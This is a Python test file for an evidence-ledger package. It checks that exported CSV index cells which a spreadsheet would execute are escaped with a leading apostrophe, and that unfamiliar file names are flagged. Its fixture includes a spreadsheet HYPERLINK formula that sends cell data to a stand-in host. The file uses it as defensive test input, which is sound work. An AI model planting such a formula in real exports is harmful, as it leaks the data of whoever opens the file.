"""The members that are a function of the others: an index that no spreadsheet executes, and names that have one meaning."""

import csv
import io

import pytest

from ledger.evidence import layout
from ledger.evidence.container import read_container
from tests.ledger.evidence.demo_cases import case_ledger, lines

ASSET = "asset:nordhafen-terminal"
REGISTRAR = "party:nordhafen-registrar"
FORMULA = '=HYPERLINK("https://x.example/?"&A1,"Click")'


def test_a_cell_that_a_spreadsheet_would_execute_is_set_off():
    ledger = case_ledger("invented-nordhafen")
    for n, title in enumerate((FORMULA, "+1", "-1", "@SUM(A1)", "plain, with a comma")):
        draft = {
            "label": f"H{n}",
            "type": "report.recorded",
            "subjects": [ASSET],
            "notice": [{"to": "public", "at": "2026-05-20", "how": "register", "zone": "Europe/Berlin"}],
            "actor": REGISTRAR,
            "signers": [{"party": REGISTRAR, "role": "registrar", "capacity": "registrar"}],
            "basis": {"kind": "report", "title": title},
            "effects": [{"effect": "state", "kind": "report", "asset": ASSET, "text": "x"}],
        }
        ledger.append_drafts(lines([draft]))
    index = read_container(ledger.package(ASSET, whole=False)).members[layout.INDEX].decode()
    rows = list(csv.DictReader(io.StringIO(index)))
    titles = [row["instrument"] for row in rows]
    assert titles[-5:] == [f"'{FORMULA}", "'+1", "'-1", "'@SUM(A1)", "plain, with a comma"]
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert [int(row["index"]) for row in rows] == sorted(int(row["index"]) for row in rows)


@pytest.mark.parametrize(
    "name", ["statements/01.json", "statements/-1.json", "proofs/1.tlog-proof.bak", "Checkpoint", "documents/x.pdf"]
)
def test_names_that_look_like_parts_of_a_package_are_none(name: str):
    assert layout.unknown_names({name: b""}) == [name]
